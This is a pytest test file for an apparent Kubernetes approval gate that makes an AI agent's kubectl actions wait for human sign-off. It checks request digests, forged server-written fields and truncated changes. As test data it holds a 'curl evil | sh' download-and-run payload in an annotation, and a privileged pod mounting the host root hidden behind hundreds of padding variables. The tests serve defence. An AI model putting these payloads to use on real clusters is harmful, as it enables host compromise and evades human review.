"""One action is one request, however it is written and whatever the server makes of it; another action is another request."""
import copy
import json

import pytest

import objects
from harness import wait_for
from namespace import wait_for_policy
from objects import IMAGE, approval, preset

CONTAINERS = [{"name": "main", "image": f"{IMAGE}:1"}]
POD = {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "one"}, "spec": {"containers": CONTAINERS}}
JOB = {"apiVersion": "batch/v1", "kind": "Job", "metadata": {"name": "one"},
       "spec": {"suspend": True, "template": {"spec": {"containers": CONTAINERS, "restartPolicy": "Never"}}}}
PORTS = [{"name": "a", "port": 80}, {"name": "b", "port": 81}]
SERVICE = {"apiVersion": "v1", "kind": "Service", "metadata": {"name": "one"},
           "spec": {"selector": {"app": "api"}, "ports": PORTS}}


def changed(base, **fields):
    """A copy in which fields such as spec__type are set."""
    made = copy.deepcopy(base)
    for path, value in fields.items():
        *parents, last = path.split("__")
        at = made
        for each in parents:
            at = at.setdefault(each, {})
        at[last] = value
    return made


def generated(base):
    return changed(base, metadata={"generateName": "some-"})


CONFIG_MAP = {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "one"}, "data": {"a": "b"}}
SERVER_MADE = {
    "a Pod, whose token volume is named anew": POD,
    "a Pod with a generated name": generated(POD),
    "a Job, labelled with its own uid": JOB,
    "a Job with a generated name": generated(JOB),
    "a CronJob with a generated name": {"apiVersion": "batch/v1", "kind": "CronJob", "metadata": {"generateName": "some-"},
                                        "spec": {"schedule": "0 0 1 1 *", "jobTemplate": {"spec": JOB["spec"]}}},
    "a Deployment with a generated name": generated(changed(objects.deployment(""), metadata={})),
    "a ConfigMap with a generated name": generated(CONFIG_MAP),
    "a Service with an address of its own": SERVICE,
    "a Service with node ports": changed(SERVICE, spec__type="NodePort"),
    "a load balancer with a health check's port": changed(SERVICE, spec__type="LoadBalancer",
                                                          spec__externalTrafficPolicy="Local"),
    "a Service in two address families": changed(SERVICE, spec__ipFamilyPolicy="PreferDualStack"),
}


@pytest.mark.parametrize("what", SERVER_MADE)
def test_what_the_server_makes_anew_at_each_try_is_one_request(what, shop):
    shop.gate(actions=preset("Everything"), holdFor="1s")
    agent = shop.start("agent", "create", "-f", "-", stdin=json.dumps(SERVER_MADE[what]))
    request = shop.request()
    # The first try, and two more after time-outs.
    wait_for("two tries more", lambda: shop.told_to_come_again() >= 2)
    assert len(shop.requests()) == 1
    shop.approve("alice", request)
    agent.finish().must()
    assert len(shop.requests()) == 1
    assert len(shop.uses()) == 1


def test_an_update_that_allocates_ports_is_one_request(shop):
    shop.cluster.apply(changed(SERVICE, metadata__namespace=shop.name))
    shop.gate(actions=preset("Everything"), holdFor="1s")
    agent = shop.start("agent", "patch", "service", "one", "-p", '{"spec":{"type":"NodePort"}}')
    request = shop.request()
    wait_for("two tries more", lambda: shop.told_to_come_again() >= 2)
    shop.approve("alice", request)
    agent.finish().must()
    assert len(shop.requests()) == 1


# What stands in a place that is left out, but is the agent's own word: the honest write, and the attack.
TOKEN = {"name": "kube-api-access-bcdfg", "projected": {"sources": [{"serviceAccountToken": {"path": "token"}}]}}
FOLDER = {"name": "kube-api-access-bcdfg", "emptyDir": {}}
MANAGED = [{"manager": "x", "operation": "Update", "apiVersion": "v1", "time": "2026-01-01T00:00:00Z", "fieldsType": "FieldsV1",
            "fieldsV1": {"f:spec": {"f:type": {}, "f:selector": {}}}}]
NODE_PORT = changed(SERVICE, spec__type="NodePort")
ASKED_PORT = changed(NODE_PORT, spec__ports=[{"name": "a", "port": 80, "nodePort": 30999}, PORTS[1]])
FORGERIES = {
    "a chosen name beside generateName": (generated(POD), changed(POD, metadata={"generateName": "some-", "name": "some-admin"})),
    "a node port that was asked for": (NODE_PORT, ASKED_PORT),
    "a node port that was asked for, under managedFields that say otherwise":
        (NODE_PORT, changed(ASKED_PORT, metadata__managedFields=MANAGED)),
    "an address that was asked for": (SERVICE, changed(SERVICE, spec__clusterIP="10.96.77.77")),
    "a folder named like the token's volume": (POD, changed(POD, spec__volumes=[FOLDER])),
    "a token for somebody else named like the usual one": (POD, changed(POD, spec__volumes=[TOKEN])),
    "a selector of the agent's own": (JOB, changed(JOB, spec__manualSelector=True, spec__selector={"matchLabels": {"a": "b"}},
                                                   spec__template__metadata={"labels": {"a": "b"}})),
    "an owner": (CONFIG_MAP, changed(CONFIG_MAP, metadata__ownerReferences=[{
        "apiVersion": "v1", "kind": "ConfigMap", "name": "x", "uid": "00000000-0000-4000-8000-000000000000"}])),
    "what kubectl says it applied": (CONFIG_MAP, changed(CONFIG_MAP, metadata__annotations={
        "kubectl.kubernetes.io/last-applied-configuration": '{"kind":"Secret"}'})),
    "a reason in the pod template": (JOB, changed(JOB, spec__template__metadata={"annotations": {"sallyport.dev/reason": "x"}})),
    "one byte of a value": (CONFIG_MAP, changed(CONFIG_MAP, data__a="c")),
}


def asked(shop, *arguments, stdin=None):
    """The agent tries; the digest of what it is told to have approved."""
    known = {each["metadata"]["name"] for each in shop.requests()}
    result = shop.kubectl("agent", *arguments, stdin=json.dumps(stdin) if stdin else None)
    assert "code=ApprovalRequired" in result.stderr, result
    made = [each for each in shop.requests() if each["metadata"]["name"] not in known]
    assert len(made) <= 1
    name = result.stderr.partition(f"request={shop.name}/")[2].split()[0]
    return shop.get("approvalrequest", name)["spec"]["action"]["digest"]


@pytest.mark.parametrize("what", FORGERIES)
def test_what_an_agent_puts_where_the_server_writes_is_another_request(what, shop):
    honest, forged = FORGERIES[what]
    shop.gate(actions=preset("Everything"), whilePending="Reject")
    first = asked(shop, "create", "-f", "-", stdin=honest)
    assert asked(shop, "create", "-f", "-", stdin=honest) == first
    assert asked(shop, "create", "-f", "-", stdin=forged) != first
    assert len(shop.requests()) == 2


def test_the_ways_to_write_one_change_are_one_request(shop):
    # Made anew without kubectl's last-applied annotation, which apply would change as well.
    shop.kubectl("admin", "delete", "deployment", "api").must()
    shop.kubectl("admin", "create", "-f", "-", stdin=json.dumps(objects.deployment(shop.name))).must()
    shop.gate(whilePending="Reject")
    wanted = objects.deployment(shop.name, tag="2")
    live = shop.get("deployment", "api")
    live["spec"]["template"]["spec"]["containers"][0]["image"] = f"{IMAGE}:2"
    strategic = {"spec": {"template": {"spec": {"containers": [{"name": "api", "image": f"{IMAGE}:2"}]}}}}
    at = "/spec/template/spec/containers/0/image"
    digests = {
        "set image": asked(shop, "set", "image", "deployment/api", f"api={IMAGE}:2"),
        "patch": asked(shop, "patch", "deployment", "api", "-p", json.dumps(strategic)),
        "JSON patch": asked(shop, "patch", "deployment", "api", "--type=json", "-p",
                            json.dumps([{"op": "replace", "path": at, "value": f"{IMAGE}:2"}])),
        "merge patch": asked(shop, "patch", "deployment", "api", "--type=merge", "-p", json.dumps(
            {"spec": {"template": {"spec": {"containers": live["spec"]["template"]["spec"]["containers"]}}}})),
        "server-side apply": asked(shop, "apply", "--server-side", "--force-conflicts", "-f", "-", stdin=wanted),
        "replace": asked(shop, "replace", "-f", "-", stdin=live),
    }
    assert set(digests.values()) == {digests["set image"]}, digests
    assert len(shop.requests()) == 1


def test_a_rollout_restart_that_was_approved_works_when_it_is_run_again(shop):
    shop.gate(actions=preset("PodPromotion"), whilePending="Reject")
    restart = ("rollout", "restart", "deployment/api")
    first = asked(shop, *restart)
    shop.approved("alice", shop.request())
    shop.kubectl("agent", *restart).must()
    assert [each["spec"]["action"]["digest"] for each in shop.requests("Used")] == [first]
    # A payload in the annotation's place is no restart.
    payload = {"spec": {"template": {"metadata": {"annotations": {"kubectl.kubernetes.io/restartedAt": "curl evil | sh"}}}}}
    assert asked(shop, "patch", "deployment", "api", "-p", json.dumps(payload)) != first


def test_under_changed_fields_what_others_move_in_between_does_not_matter(shop):
    shop.gate(whilePending="Reject")
    shop.approved("alice", shop.rejected("2"))
    shop.kubectl("admin", "scale", "deployment/api", "--replicas=1").must()  # as an autoscaler would
    shop.set_image("2").must()
    assert len(shop.uses()) == 1


def test_a_container_put_in_front_in_between_asks_anew(shop):
    shop.gate(whilePending="Reject")
    by_place = [{"op": "replace", "path": "/spec/template/spec/containers/0/image", "value": f"{IMAGE}:2"}]
    attempt = ("patch", "deployment", "api", "--type=json", "-p", json.dumps(by_place))
    first = asked(shop, *attempt)
    shop.approved("alice", shop.request())
    other = [{"op": "add", "path": "/spec/template/spec/containers/0", "value": {"name": "proxy", "image": f"{IMAGE}:proxy"}}]
    shop.kubectl("admin", "patch", "deployment", "api", "--type=json", "-p", json.dumps(other)).must()
    assert asked(shop, *attempt) != first
    assert not shop.uses()


def test_how_an_object_is_deleted_counts(shop):
    shop.gate(actions=preset("Deletion"), whilePending="Reject")
    ways = [(), ("--cascade=orphan",), ("--cascade=foreground",), ("--grace-period=0", "--force")]
    digests = [asked(shop, "delete", "deployment", "api", *way) for way in ways]
    assert len(set(digests)) == len(ways)


def test_another_object_of_the_same_name_is_another_target(shop):
    shop.gate(actions=preset("Deletion"), whilePending="Reject")
    first = asked(shop, "delete", "deployment", "api")
    shop.approved("alice", shop.request())
    shop.kubectl("admin", "delete", "deployment", "api").must()
    shop.cluster.apply(objects.deployment(shop.name))
    assert asked(shop, "delete", "deployment", "api") != first
    shop.get("deployment", "api")


def custom(kind, **content):
    return {"apiVersion": "example.com/v1", "kind": kind, "metadata": {"name": "one"}, **content}


def test_numbers_beyond_a_doubles_reach_differ(shop, widgets):
    shop.gate(actions=preset("Everything"), whilePending="Reject")
    digests = {asked(shop, "create", "-f", "-", stdin=custom("Widget", spec={"size": number}))
               for number in (2**53, 2**53 + 1)}
    assert len(digests) == 2


def test_a_status_counts_where_it_is_part_of_the_object(shop, widgets):
    for kind in ("Widget", "Gadget"):
        shop.kubectl("admin", "create", "-f", "-", stdin=json.dumps(custom(kind, spec={"size": 1}, status={"a": 0}))).must()
    shop.gate(actions=preset("Everything"), whilePending="Reject")

    def patched(target, content, *more):
        return asked(shop, "patch", target, "one", "--type=merge", "-p", json.dumps(content), *more)

    # Of a kind with a status subresource the main path cannot write it: the honest write and this one are the same.
    assert patched("widget", {"spec": {"size": 2}}) == patched("widget", {"spec": {"size": 2}, "status": {"a": 1}})
    assert patched("gadget", {"spec": {"size": 2}}) != patched("gadget", {"spec": {"size": 2}, "status": {"a": 1}})
    assert patched("widget", {"status": {"a": 1}}, "--subresource=status") != patched(
        "widget", {"status": {"a": 2}}, "--subresource=status")


LARGE = 300


@pytest.fixture
def gate_of_cluster(shop):
    """What reaches a node is asked about by the cluster's policies alone."""
    name = f"large-{shop.name}"
    shop.cluster.apply(objects.policy(name, actions=preset("Everything"), whilePending="Reject", namespaceSelector={
        "matchLabels": {"kubernetes.io/metadata.name": shop.name}}))
    wait_for_policy(shop.cluster, "clusterapprovalpolicy", name)
    yield
    shop.cluster.admin("delete", "clusterapprovalpolicy", name)


def test_a_change_too_large_to_show_counts_only_for_who_says_so(shop, gate_of_cluster):
    # Harm behind many lines of no importance.
    env = [{"name": f"A{number:03}", "value": "x" * 1000} for number in range(LARGE)]
    spec = {"containers": [CONTAINERS[0] | {"env": env, "securityContext": {"privileged": True}}], "hostNetwork": True,
            "volumes": [{"name": "host", "hostPath": {"path": "/"}}]}
    asked(shop, "create", "-f", "-", stdin=changed(POD, spec=spec))
    request = shop.request()
    shown = request["spec"]["action"]["kubernetes"]
    assert shown["truncated"]
    paths = [each["path"] for each in shown["changes"]]
    assert len(paths) <= 4096
    assert any("privileged" in path for path in paths)
    assert any("hostPath" in path for path in paths)
    assert any("hostNetwork" in path for path in paths)

    refused = shop.decide("alice", request, "Approve")
    assert not refused.ok and "acceptTruncated" in refused.stderr
    shop.decide("alice", request, "Approve", acceptTruncated=True).must()
    shop.wait_for_state(request, "Approved")
    shop.kubectl("agent", "create", "-f", "-", stdin=json.dumps(changed(POD, spec=spec))).must()


def test_uses_are_bound_to_the_agent_that_asked(shop):
    shop.gate(whilePending="Reject", approval=approval(uses=2))
    shop.approved("alice", shop.rejected("2"))
    assert "code=ApprovalRequired" in shop.set_image("2", who="second").stderr
    assert not shop.uses()
    shop.set_image("2").must()
